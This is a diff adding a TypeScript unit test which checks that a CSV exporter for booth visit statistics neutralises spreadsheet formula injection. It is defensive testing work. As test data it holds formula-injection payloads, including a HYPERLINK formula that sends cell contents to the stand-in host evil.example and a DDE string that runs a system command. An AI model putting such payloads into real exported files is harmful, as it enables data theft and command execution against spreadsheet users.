@@ -181,4 +181,61 @@ describe('CSV', () => {
       `${CSV_BOM}date,booth_id,booth_title_zh,booth_title_en,visits,dwell_seconds\r\n`,
     );
   });
+
+  it('neutralises every cell a spreadsheet would run as a formula (OWASP)', () => {
+    const titles = [
+      '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
+      "=cmd|' /C calc'!A0",
+      '+SUM(1+1)',
+      '-2+3',
+      '@SUM(1,1)',
+      '\t=1+1',
+      '\r=1+1',
+    ];
+    const booths = titles.map((title, i) => ({ id: `evil-${i}`, title: { zh: title, en: title } }));
+    const evil: VisitStats = {
+      booths: booths.map((b) => ({ date: '2024-05-03', boothId: b.id, visits: 1, dwellMs: 2_000 })),
+      days: [],
+    };
+    const csv = statsToCsv(evil, { booths } as unknown as Parameters<typeof statsToCsv>[1]);
+    const rows = parseCsv(csv.slice(1));
+    expect(rows).toHaveLength(titles.length + 1);
+    rows.slice(1).forEach((row, i) => {
+      expect(row[2]).toBe(`'${titles[i]}`);
+      expect(row[3]).toBe(`'${titles[i]}`);
+      expect(row[4]).toBe('1');
+    });
+    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    expect(csvField(-5)).toBe('-5');
+    expect(csvField('AR = VR')).toBe('AR = VR');
+  });
 });
+
+/** A small RFC 4180 reader, as a spreadsheet reads the file: quoted fields, doubled quotes, CRLF. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let field = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const ch = text[i] as string;
+    if (quoted) {
+      if (ch === '"' && text[i + 1] === '"') {
+        field += '"';
+        i++;
+      } else if (ch === '"') quoted = false;
+      else field += ch;
+    } else if (ch === '"') quoted = true;
+    else if (ch === ',') {
+      row.push(field);
+      field = '';
+    } else if (ch === '\r' && text[i + 1] === '\n') {
+      row.push(field);
+      rows.push(row);
+      row = [];
+      field = '';
+      i++;
+    } else field += ch;
+  }
+  return rows;
+}
